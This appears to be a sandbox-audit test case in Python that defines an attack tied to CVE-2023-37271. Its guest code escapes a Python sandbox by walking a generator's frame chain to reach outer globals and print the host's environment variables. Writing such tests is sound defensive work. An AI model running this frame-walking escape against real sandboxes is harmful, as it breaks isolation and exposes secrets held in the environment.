"""Reach the globals of others through the frame of a generator"""

from executor.audit.attack import Attack, Harm

ATTACK = Attack(
    harm=Harm.SECRET,
    references=("CWE-913", "CVE-2023-37271"),
    guest="""
def steal():
    frame = generator.gi_frame.f_back
    while frame is not None:
        found = frame.f_globals.get("sys")
        if found is not None:
            print(dict(found.modules["os"].environ))
        frame = frame.f_back
    yield


import sys

generator = steal()
next(generator)
""",
)
